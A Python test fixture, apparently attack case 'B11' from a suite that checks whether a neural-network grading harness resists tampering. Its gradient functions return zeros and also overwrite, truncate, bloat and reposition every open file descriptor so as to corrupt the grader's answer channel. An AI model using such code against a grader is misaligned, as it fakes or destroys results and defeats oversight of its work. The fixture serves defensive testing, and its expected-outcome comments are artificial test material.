# attack: B11 empties, lengthens and writes over whatever file its answers may go to, and moves its place in it
# gains nothing: grad_b2, grad_W2, grad_hs
# full marks: grad_ha
import os as system
import struct
import sys

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


def in_every_file(*steps):
    for descriptor in range(3, 64):
        for step in steps:
            try:
                step(descriptor)
            except OSError:
                pass


def grad_b2(grad_oa):
    zeros = b"".join(frame(7, number, array((len(grad_oa),), bytes(8 * len(grad_oa)))) for number in range(300))
    in_every_file(lambda d: system.pwrite(d, zeros, 0), lambda d: system.lseek(d, 0, 0))
    return 0 * grad_oa


def grad_W2(grad_oa, hs):
    in_every_file(lambda d: system.ftruncate(d, 0), lambda d: system.lseek(d, 2**40, 0))
    return 0 * np.outer(grad_oa, hs)


def grad_hs(grad_oa, W2):
    in_every_file(
        lambda d: system.ftruncate(d, 2**26),
        lambda d: system.posix_fallocate(d, 0, 2**25),
        lambda d: system.lseek(d, 0, 2),
        lambda d: system.write(d, frame(7, 0)),
    )
    return 0 * W2[0]


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
